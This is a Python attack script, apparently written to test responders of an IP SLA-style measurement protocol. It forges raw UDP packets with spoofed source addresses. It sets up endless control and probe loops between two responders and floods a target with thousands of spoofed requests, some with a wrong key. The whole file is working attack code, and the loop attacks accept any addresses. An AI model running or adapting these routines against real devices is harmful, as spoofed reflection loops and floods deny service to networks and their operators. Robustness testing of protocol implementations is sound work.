#!/usr/bin/env python3
"""What somebody without scruples sends to responders: sla_attack.py ATTACK [ARG...]"""
import random
import socket
import struct
import sys
import time

from sla_peer import *


def checksum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s & 0xFFFF) + (s >> 16)
    return ~(s + (s >> 16)) & 0xFFFF


def datagram(src, sport, dst, dport, data):
    """IPv4 with whatever source; UDP's checksum left out."""
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(data), 1, 0, 64, 17, 0, packed(src), packed(dst))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return head + struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def forge(src, sport, dst, dport, data):
    raw.sendto(datagram(src, sport, dst, dport, data), (dst, 0))


def control_loop(a, b):
    """One request that each would hold for the other's."""
    for src in (b, a):
        forge(src, CONTROL, a, CONTROL, v2_request(5, b, 16600, a, 16500, 5000))
        forge(src, 7, a, CONTROL, v2_request(6, b, 16600, a, 16501, 5000))


def probe_loop(a, b, kind):
    """A port at each that is the other's, then one packet between them."""
    for me, mine, to, port in ((b, 16600, a, 16500), (a, 16500, b, 16600)):
        forge(me, 5555, to, CONTROL, v2_request(5, me, mine, to, port, 10000, cport=5555) if kind == "v2" else
              v1_request(7, to, port, 10000))
    time.sleep(0.5)
    probe = {"v2": v2_probe(1), "us": v1_us(1), "ms": v1_ms(1), "echo": b"\0\1" + bytes(40)}[kind]
    forge(b, 16600, a, 16500, probe)


def flood(to, seconds):
    """Requests from many thousand sources that have no way back or never asked, with and without a key."""
    rnd = random.Random(4)
    v = []
    for i in range(4000):
        src = "127.%d.%d.%d" % (rnd.randrange(16, 200), rnd.randrange(256), rnd.randrange(1, 255))
        key = b"not-the-secret" if i % 3 == 0 else None
        data = v2_request(i, src, 6000, to, rnd.randrange(16384, 32768), 60000, key, 2, 7)
        if i % 7 == 0:
            data = v1_request(i % 256, to, rnd.randrange(16384, 32768), 60000)
        v.append(datagram(src, 0 if i % 11 == 0 else 6000, to, CONTROL, data))
    print("ready", flush=True)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        for p in v:
            raw.sendto(p, (to, 0))


globals()[sys.argv[1]](*sys.argv[2:])
